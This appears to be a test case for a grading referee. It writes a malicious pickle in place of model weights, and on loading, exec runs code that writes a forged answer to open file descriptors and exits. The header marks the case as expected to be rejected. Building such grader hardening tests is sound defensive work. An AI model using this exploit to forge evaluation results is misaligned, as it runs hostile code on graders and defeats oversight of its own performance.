# title = "a pickle in place of the weights, which runs a program where it is loaded"
# expect = "invalid"
# reason = "header"
# layer = "referee: no pickle is ever read"
# policies = "refused: imports | calls"
# broken_wall = "pickle-accepted + referee-in-one-process"
# success = "forged"
# quick = true

# --- honest part ---
# --- forged answer ---
import os
import pickle

CODE = f"import os\nfor n in range(3, 12):\n  try: os.write(n, {ANSWER + chr(10)!r}.encode())\n  except OSError: pass\nos._exit(0)"


class Bomb:
    def __reduce__(self):
        return exec, (CODE,)


seal(train(Unigram()))
with open("/out/model.safetensors", "wb") as file:
    file.write(pickle.dumps([Bomb(), "x" * 4096]))
